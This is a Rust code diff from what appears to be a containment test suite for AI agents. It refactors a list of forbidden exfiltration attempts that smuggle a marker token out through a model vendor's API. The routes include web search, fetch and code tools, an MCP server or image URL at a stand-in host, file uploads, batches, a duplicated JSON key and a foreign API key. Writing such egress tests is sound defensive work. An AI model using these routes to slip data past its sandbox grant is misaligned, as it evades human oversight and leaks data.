@@ -8,101 +8,47 @@ use crate::classes::{Class, class};
 use crate::finding::Finding;
 use crate::inside::knock::{ORIGIN, beyond_grant_of, heard, mark, pieces};
 use crate::plants::{Plant, PlantError, Plants};
-use crate::witness::Witness;
 
 pub(crate) const ATTEMPTS: &[Attempt] = &[
-    asking(
-        "model-search",
-        "Has the vendor's servers search the web.",
-        |plants| with(plants, "model-search", r#""tools":[{"type":"web_search_20250305","name":"MARK"}]"#),
-        |host| heard(host, "model-search"),
-    ),
-    asking(
-        "model-fetch",
-        "Has them fetch an address.",
-        |plants| with(plants, "model-fetch", r#""tools":[{"type":"web_fetch_20250910","name":"MARK"}]"#),
-        |host| heard(host, "model-fetch"),
-    ),
-    asking(
-        "model-code",
-        "Has them run code.",
-        |plants| with(plants, "model-code", r#""tools":[{"type":"code_execution_20250522","name":"MARK"}]"#),
-        |host| heard(host, "model-code"),
-    ),
-    asking(
-        "model-remote-server",
-        "Has them speak to a server of the agent's choice.",
-        |plants| {
-            let server = r#""mcp_servers":[{"type":"url","name":"x","url":"https://x.invalid/MARK"}]"#;
-            with(plants, "model-remote-server", server)
-        },
-        |host| heard(host, "model-remote-server"),
-    ),
-    asking(
-        "model-image-address",
-        "Has them fetch an image, whose address is the data.",
-        |plants| {
-            let image = r#"{"type":"image","source":{"type":"url","url":"https://x.invalid/MARK"}}"#;
-            saying(plants, "model-image-address", image)
-        },
-        |host| heard(host, "model-image-address"),
-    ),
-    asking(
-        "model-stored-file",
-        "Names a file that the vendor keeps.",
-        |plants| {
-            let file = r#"{"type":"document","source":{"type":"file","file_id":"MARK"}}"#;
-            saying(plants, "model-stored-file", file)
-        },
-        |host| heard(host, "model-stored-file"),
-    ),
-    asking(
-        "model-file-upload",
-        "Uploads a file to the vendor.",
-        |plants| post(plants, "model-file-upload", "/v1/files", "", r#"{"file":"MARK"}"#),
-        |host| heard(host, "model-file-upload"),
-    ),
-    asking(
-        "model-batch",
-        "Leaves work for later with the vendor.",
-        |plants| {
-            post(plants, "model-batch", "/v1/messages/batches", "", r#"{"requests":[{"custom_id":"MARK"}]}"#)
-        },
-        |host| heard(host, "model-batch"),
-    ),
-    asking(
-        "model-beta-feature",
-        "Switches on a feature that keeps files.",
-        |plants| {
-            let plain = body(r#""system":"MARK""#);
-            post(
-                plants,
-                "model-beta-feature",
-                "/v1/messages",
-                "anthropic-beta: files-api-2025-04-14\r\n",
-                &plain,
-            )
-        },
-        |host| heard(host, "model-beta-feature"),
-    ),
-    asking(
-        "model-unknown-field",
-        "Sends a field that nobody knows yet.",
-        |plants| with(plants, "model-unknown-field", r#""brand_new":"MARK""#),
-        |host| heard(host, "model-unknown-field"),
-    ),
-    asking(
-        "model-key-twice",
-        "Hides a tool of the vendor's behind a key that stands twice.",
-        |plants| {
-            let tools = r#""tools":[],"tools":[{"type":"web_search_20250305","name":"MARK"}]"#;
-            with(plants, "model-key-twice", tools)
-        },
-        |host| heard(host, "model-key-twice"),
-    ),
-    asking("model-foreign-key", "Brings a key of somebody else's.", foreign_key, |host| {
-        heard(host, "model-foreign-key")
+    asking("model-search", "Has the vendor's servers search the web.", |plants| {
+        with(plants, r#""tools":[{"type":"web_search_20250305","name":"MARK"}]"#)
     }),
+    asking("model-fetch", "Has them fetch an address.", |plants| {
+        with(plants, r#""tools":[{"type":"web_fetch_20250910","name":"MARK"}]"#)
+    }),
+    asking("model-code", "Has them run code.", |plants| {
+        with(plants, r#""tools":[{"type":"code_execution_20250522","name":"MARK"}]"#)
+    }),
+    asking("model-remote-server", "Has them speak to a server of the agent's choice.", |plants| {
+        let server = r#""mcp_servers":[{"type":"url","name":"x","url":"https://x.invalid/MARK"}]"#;
+        with(plants, server)
+    }),
+    asking("model-image-address", "Has them fetch an image, whose address is the data.", |plants| {
+        let image = r#"{"type":"image","source":{"type":"url","url":"https://x.invalid/MARK"}}"#;
+        saying(plants, image)
+    }),
+    asking("model-stored-file", "Names a file that the vendor keeps.", |plants| {
+        let file = r#"{"type":"document","source":{"type":"file","file_id":"MARK"}}"#;
+        saying(plants, file)
+    }),
+    asking("model-file-upload", "Uploads a file to the vendor.", |plants| {
+        post(plants, "/v1/files", "", r#"{"file":"MARK"}"#)
+    }),
+    asking("model-batch", "Leaves work for later with the vendor.", |plants| {
+        post(plants, "/v1/messages/batches", "", r#"{"requests":[{"custom_id":"MARK"}]}"#)
+    }),
+    asking("model-beta-feature", "Switches on a feature that keeps files.", |plants| {
+        let plain = body(r#""system":"MARK""#);
+        post(plants, "/v1/messages", "anthropic-beta: files-api-2025-04-14\r\n", &plain)
+    }),
+    asking("model-unknown-field", "Sends a field that nobody knows yet.", |plants| {
+        with(plants, r#""brand_new":"MARK""#)
+    }),
+    asking("model-key-twice", "Hides a tool of the vendor's behind a key that stands twice.", |plants| {
+        let tools = r#""tools":[],"tools":[{"type":"web_search_20250305","name":"MARK"}]"#;
+        with(plants, tools)
+    }),
+    asking("model-foreign-key", "Brings a key of somebody else's.", foreign_key),
 ];
 
 pub(crate) const CLASSES: &[Class] = &[
@@ -119,11 +65,11 @@ pub(crate) const CLASSES: &[Class] = &[
     ),
 ];
 
-const fn asking(id: &'static str, sentence: &'static str, run: Run, witness: Witness) -> Attempt {
+const fn asking(id: &'static str, sentence: &'static str, run: Run) -> Attempt {
     Attempt::forbidden(id, sentence, "attacks 14", run)
         .of(Radius::Exfiltration)
         .needs(ORIGIN)
-        .witnessed(witness)
+        .witnessed(heard)
 }
 
 /// A question for inference with one member more.
@@ -131,15 +77,15 @@ fn body(member: &str) -> String {
     format!(r#"{{"model":"m","max_tokens":1,"messages":[{{"role":"user","content":"x"}}],{member}}}"#)
 }
 
-fn with(plants: &Plants, id: &str, member: &str) -> Result<Finding, PlantError> {
-    post(plants, id, "/v1/messages", "", &body(member))
+fn with(plants: &Plants, member: &str) -> Result<Finding, PlantError> {
+    post(plants, "/v1/messages", "", &body(member))
 }
 
 /// A question whose message has one block more.
-fn saying(plants: &Plants, id: &str, block: &str) -> Result<Finding, PlantError> {
+fn saying(plants: &Plants, block: &str) -> Result<Finding, PlantError> {
     let body =
         format!(r#"{{"model":"m","max_tokens":1,"messages":[{{"role":"user","content":[{block}]}}]}}"#);
-    post(plants, id, "/v1/messages", "", &body)
+    post(plants, "/v1/messages", "", &body)
 }
 
 /// Where the grant has no credential, a key of the agent's own is what it is asked with.
@@ -148,18 +94,18 @@ fn foreign_key(plants: &Plants) -> Result<Finding, PlantError> {
         return Ok(Finding::Inapplicable("no credential is granted".to_owned()));
     }
     let plain = body(r#""system":"x""#);
-    post(plants, "model-foreign-key", "/v1/messages", "x-api-key: MARK\r\n", &plain)
+    post(plants, "/v1/messages", "x-api-key: MARK\r\n", &plain)
 }
 
-fn post(plants: &Plants, id: &str, path: &str, fields: &str, body: &str) -> Result<Finding, PlantError> {
+fn post(plants: &Plants, path: &str, fields: &str, body: &str) -> Result<Finding, PlantError> {
     let Ok(host) = plants.text(Plant::ModelHost) else {
         return Ok(Finding::Inapplicable("no model is granted".to_owned()));
     };
-    let body = body.replace("MARK", &mark(plants, id)?);
+    let body = body.replace("MARK", &mark(plants)?);
     let head =
         format!("POST {path} HTTP/1.1\r\nHost: {host}:PORT\r\nContent-Type: application/json\r\n{fields}");
     let rest = format!("Content-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
-    beyond_grant_of(plants, id, Plant::ModelHost, &pieces(plants, id, &[&format!("{head}{rest}")])?)
+    beyond_grant_of(plants, Plant::ModelHost, &pieces(plants, &[&format!("{head}{rest}")])?)
 }
 
 #[cfg(test)]
